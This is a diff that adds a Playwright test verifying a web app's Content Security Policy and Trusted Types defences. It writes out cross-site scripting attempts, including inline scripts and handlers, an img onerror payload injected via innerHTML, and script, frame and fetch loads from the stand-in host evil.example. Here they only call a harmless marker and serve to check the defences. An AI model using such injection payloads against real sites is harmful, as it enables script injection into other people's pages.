@@ -1,0 +1,105 @@
+import { expect, test } from '#e2e/fixtures/test.ts';
+
+// What is refused here is said on the console.
+test.use({ isUnderAttack: true });
+
+type Attempt = { readonly name: string; readonly ran: boolean };
+
+test('whoever gets a text into the page cannot make it run, load or send anything', async ({ app: { page } }) => {
+  const outside: string[] = [];
+  await page.context().route(/evil\.example/, (route) => {
+    outside.push(route.request().url());
+    return route.fulfill({ body: 'mark("a script of another host")', contentType: 'text/javascript' });
+  });
+  const attempts = await page.evaluate(tryEverything);
+  expect(attempts.filter(({ ran }) => ran)).toEqual([]);
+  expect(outside).toEqual([]);
+
+  // The same in a page without our policy: the attempts are true ones.
+  await page.route('**/without-policy', (route) => route.fulfill({ contentType: 'text/html', body: '<body></body>' }));
+  await page.goto(new URL('/without-policy', page.url()).href);
+  const bare = await page.evaluate(tryEverything);
+  expect(bare.filter(({ ran }) => ran).map(({ name }) => name)).toEqual([
+    'an inline script',
+    'an inline handler',
+    'a script of another host',
+    'code from text',
+    'markup from text',
+    'a policy of its own',
+  ]);
+  expect(outside.length).toBeGreaterThan(3);
+});
+
+test('the two policies there are make no scripts', async ({ app: { page } }) => {
+  const made = await page.evaluate(() => {
+    const worker = (address: string) => {
+      try {
+        new Worker(address).terminate();
+        return 'started';
+      } catch (cause) {
+        return String(cause);
+      }
+    };
+    const text = new Blob(['1'], { type: 'text/javascript' });
+    return [worker('https://evil.example/x.js'), worker('data:text/javascript,1'), worker(URL.createObjectURL(text))];
+  });
+  expect(made[0]).not.toBe('started');
+  expect(made[1]).not.toBe('started');
+  // As hls.js starts its own: from bytes that the page itself made.
+  expect(made[2]).toBe('started');
+});
+
+/** Runs in the page. */
+async function tryEverything(): Promise<Attempt[]> {
+  const marks = new Set<string>();
+  Object.assign(window, { mark: (name: string) => marks.add(name) });
+  const host = document.createElement('div');
+  document.body.append(host);
+
+  const element = (tag: string, attributes: Record<string, string>, text = ''): void => {
+    const made = document.createElement(tag);
+    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
+    if (text !== '') made.append(text);
+    host.append(made);
+    made.click();
+  };
+
+  const ways: Record<string, () => unknown> = {
+    'an inline script': () => {
+      const script = document.createElement('script');
+      script.append("mark('an inline script')");
+      host.append(script);
+    },
+    'an inline handler': () => element('p', { onclick: "mark('an inline handler')" }),
+    'a script of another host': () => element('script', { src: 'https://evil.example/x.js' }),
+    'code from text': () => setTimeout("mark('code from text')"),
+    'a picture of another host': () => element('img', { src: 'https://evil.example/x.png' }),
+    'a request to another host': () => fetch('https://evil.example/x'),
+    'a frame': () => element('iframe', { src: 'https://evil.example/' }),
+    'an object': () => element('object', { data: 'https://evil.example/x.swf' }),
+    'an inline style': () => element('style', {}, 'body { background: url(https://evil.example/x) }'),
+    'markup from text': () => {
+      host.innerHTML = '<img src=x onerror="mark(\'markup from text\')">';
+    },
+    'a policy of its own': () => {
+      // Chromium's own; the types of the platform do not know it yet.
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void };
+      };
+      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
+      marks.add('a policy of its own');
+    },
+  };
+
+  for (const attempt of Object.values(ways)) {
+    try {
+      await attempt();
+    } catch {
+      // Refused at once, which is as good.
+    }
+  }
+  // What runs at all runs by the end of a request that goes out now.
+  await fetch('/none').catch(() => undefined);
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  return Object.keys(ways).map((name) => ({ name, ran: marks.has(name) }));
+}
